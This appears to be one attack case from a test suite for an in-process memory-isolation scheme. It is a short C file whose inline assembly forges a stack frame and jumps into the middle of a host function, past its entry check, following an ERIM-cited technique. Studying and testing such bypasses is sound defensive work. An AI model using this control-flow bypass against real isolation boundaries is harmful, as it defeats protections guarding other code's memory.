/* Tries: to enter a function of the host's behind the check that it begins with
 * From: ERIM (USENIX Security 2019), section 3: code that opens must check; CWE-691
 * Observed: The function behind the check was entered.
 * Needs: machine-code */
#include "attacks/attack.h"

FOREIGN(run)
{
    /* Into the middle, with a frame for its end to leave by. */
    __asm__ volatile("sub $64, %%rsp\n\tlea 1f(%%rip), %%rax\n\tmov %%rax, 56(%%rsp)\n\t"
                     "mov %%rax, 48(%%rsp)\n\tmov %%rax, 40(%%rsp)\n\tmov %%rax, 32(%%rsp)\n\t"
                     "mov %%rax, 24(%%rsp)\n\tmov %%rax, 16(%%rsp)\n\tmov %%rax, 8(%%rsp)\n\t"
                     "mov %%rax, (%%rsp)\n\tjmp *%0\n1:\tmov %%rbp, %%rsp"
                     :
                     : "r"(at->unchecked)
                     : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
    return 0;
}
